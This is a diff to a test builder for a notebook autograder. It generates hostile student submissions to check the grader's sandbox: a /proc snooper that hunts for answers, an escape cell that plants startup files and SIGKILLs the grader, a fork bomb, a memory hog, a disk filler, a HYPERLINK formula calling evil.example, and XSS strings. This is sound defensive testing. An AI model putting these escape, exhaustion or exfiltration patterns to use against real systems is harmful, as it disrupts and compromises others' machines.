@@ -21,8 +21,13 @@ HERE = Path(__file__).resolve().parent
 ROOT = HERE.parent.parent
 ADVERSARIAL = "01-fork"          # the assignment the adversarial submissions attack
 CODE = "07-code"                 # the code exercises
-SPY_REPORT = "/tmp/cowlab-spy-report.json"
 ORPHAN_MARKS = ("4242.17", "4343.17")   # `sleep` arguments the orphan submission uses
+# The escape submission acts only on processes whose environment holds this token (the
+# test batch's grader has it), so it can never touch anything else on the machine.
+BATCH_TOKEN = "COWLAB_TEST_BATCH=7c1d0a"
+PLANTED = ("cowlab/homework/_planted_by_student.py", "cowlab_planted_by_student.pth",
+           ".ipython/profile_default/startup/00-planted-by-student.py")
+LATE_REPORT = "/tmp/cowlab-late-writer-report"
 
 
 def meta(cell, key):
@@ -130,7 +135,7 @@ def build(solutions, exercises):
     # Correct answers, one sabotaged per failure kind; the rest must keep their points.
     qids = list(answer_cells(sol()))
     for name, student, victim, source in [
-            ("loop", "../x/loop-er", qids[1], "while True:\n    pass"),
+            ("loop", "loop-er", qids[1], "while True:\n    pass"),
             ("membomb", "mem-bomber", qids[2],
              "hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))"),
             ("crash", "crash-er", qids[3], "import os\nos.kill(os.getpid(), 9)")]:
@@ -166,11 +171,45 @@ def build(solutions, exercises):
     out["orphans.ipynb"] = nb
 
     # Snoop for the grader's files and expected answers; use whatever turns up.
+    # What it saw comes back as its last answer (a string: `invalid`, the message shows it).
     nb = set_student(ex(), "spy")
-    insert_after(nb, is_setup, SPY.replace("REPORT", SPY_REPORT))
+    insert_after(nb, is_setup, SPY)
     for qid, cell in answer_cells(nb).items():
         cell.source = f"{qid} = FOUND.get({qid!r})"
+    cell.source = (f"{qid} = 'files=%d grader=%s found=%d' % (seen['files_read'], "
+                   "seen['grader'], len(FOUND))")
     out["spy.ipynb"] = nb
+
+    # Escape: plant code for the grader and later kernels, find the batch's notebooks and
+    # the grader through /proc, kill the grader, leave a late writer behind. If anything
+    # worked, q1 gets a wrong answer (so the row shows it) -- nothing is destroyed.
+    nb = set_student(sol(), "escaper")
+    insert_after(nb, is_setup, ESCAPE.replace("TOKEN", BATCH_TOKEN)
+                 .replace("PLANTED", repr(PLANTED)).replace("LATE", LATE_REPORT))
+    first = qids[0]
+    answer_cells(nb)[first].source += f"\n{first} = {first} if not ESCAPED else -1"
+    out["escape.ipynb"] = nb
+
+    # Resources: many processes each with its own memory, a fork bomb, a disk filler.
+    nb = set_student(sol(), "hog")
+    answer_cells(nb)[qids[1]].source = HOG
+    answer_cells(nb)[qids[2]].source = FORK_BOMB
+    answer_cells(nb)[qids[3]].source = DISK
+    out["hog.ipynb"] = nb
+
+    # Outputs: a formula as the id; markup in what the feedback repeats.
+    nb = sol()
+    nb.cells[index_of(nb, lambda c: role(c) == "student")].source = \
+        """STUDENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'"""
+    out["formula-id.ipynb"] = nb
+    nb = set_student(sol(), "markup")
+    answer_cells(nb)[qids[1]].source = ("raise ValueError('<script>alert(1)</script>"
+                                        "<img src=x onerror=alert(2)>')")
+    out["markup.ipynb"] = nb
+
+    # The same id twice: both graded and flagged, not merged.
+    out["twin-a.ipynb"] = set_student(sol(), "twin")
+    out["twin-b.ipynb"] = set_student(ex(), "twin")
 
     # Bad files: not JSON, no STUDENT line, an assignment that does not exist.
     out["not-json.ipynb"] = '{"cells": [{"cell_type": "code", "source": "q1 = 3"'
@@ -206,8 +245,7 @@ try:
     seen["parent_cmdline"] = open("/proc/%d/cmdline" % os.getppid()).read().split("\\0")
 except OSError as e:
     seen["parent_cmdline"] = "refused: " + type(e).__name__
-with open("REPORT", "w") as f:
-    json.dump(seen, f)
+seen["grader"] = "yes" if ".ipynb" in " ".join(seen["parent_cmdline"]) else "no"
 # then look for answers in files nearby, for at most 4 s (well inside the cell's limit)
 stop = time.monotonic() + 4
 places = ["*", "../*", "/tmp/*", "/tmp/*/*", "/proc/%d/cwd/*" % os.getppid()]
@@ -233,9 +271,111 @@ for pattern in places:
                     except ValueError:
                         pass
 seen["files_read"] = readable
-seen["found"] = FOUND
-with open("REPORT", "w") as f:
-    json.dump(seen, f)'''
+seen["found"] = FOUND'''
+
+ESCAPE = '''import glob, os, signal, site, sys, time
+ESCAPED = []
+# 1. plant code: the grader's package, a .pth in the venv, an IPython startup file
+import cowlab
+pkg_root = os.path.dirname(os.path.dirname(cowlab.__file__))
+for where, rel in zip([pkg_root] + site.getsitepackages()[:1] + [os.path.expanduser("~")],
+                      PLANTED):
+    try:
+        path = os.path.join(where, rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as f:
+            f.write("# planted by a student\\n")
+        if rel.startswith(".ipython") and os.path.expanduser("~") in ("/tmp", "/nonexistent"):
+            continue          # a private, throw-away HOME: planting there reaches nobody
+        ESCAPED.append("planted " + path)
+    except OSError:
+        pass
+# 2. the batch: the grader's processes (by the token in their environment)
+graders = []
+for pid in os.listdir("/proc"):
+    if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()):
+        continue
+    try:
+        with open("/proc/%s/environ" % pid, "rb") as f:
+            if b"TOKEN" not in f.read():
+                continue
+        with open("/proc/%s/cmdline" % pid, "rb") as f:
+            cmd = f.read().decode(errors="replace").split("\\0")
+    except OSError:
+        continue
+    graders.append(int(pid))
+    for arg in cmd:
+        if arg.endswith(".ipynb") and os.path.exists(arg) and "escape" not in arg:
+            try:
+                open(arg, "r+").close()        # could blank it; does not
+                ESCAPED.append("can write " + arg)
+            except OSError:
+                pass
+if graders:
+    ESCAPED.append("sees the grader")
+# 3. a late writer that outlives the grading, and 4. kill the grader
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(4)
+        with open("LATE", "w") as f:
+            f.write("I outlived the grader")
+        os._exit(0)
+    os._exit(0)
+os.wait()
+for pid in graders:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass'''
+
+HOG = '''import os, time
+kids = []
+for i in range(12):                     # 12 x 256 MiB, each under its own RLIMIT_AS
+    pid = os.fork()
+    if pid == 0:
+        try:
+            hog = bytearray(256 << 20)
+            hog[::4096] = b"x" * (len(hog) // 4096)
+            time.sleep(8)
+        finally:
+            os._exit(0)
+    kids.append(pid)
+survivors = 0
+for pid in kids:
+    _, status = os.waitpid(pid, 0)
+    survivors += os.WIFEXITED(status)
+# four or more held 256 MiB each at once: more than the submission's 1 GiB
+q2 = "ESCAPED: %d processes x 256 MiB" % survivors if survivors >= 4 else [survivors]'''
+
+FORK_BOMB = '''import os, time
+n = 0
+try:
+    for i in range(500):
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        n += 1
+except OSError:
+    pass
+q3 = "ESCAPED: %d processes" % n if n >= 200 else n'''
+
+DISK = '''import os
+block = b"x" * (1 << 20)
+written = 0
+try:
+    for where in (".", "/tmp"):
+        with open(os.path.join(where, "cowlab-filler.bin"), "wb") as f:
+            for i in range(1024):          # 1 GiB each, if nothing stops it
+                f.write(block)
+                written += 1
+finally:
+    for where in (".", "/tmp"):
+        try:
+            os.unlink(os.path.join(where, "cowlab-filler.bin"))
+        except OSError:
+            pass
+q4 = "ESCAPED: %d MiB written" % written'''
 
 TAMPER = '''import os
 import cowlab.homework.codex as codex
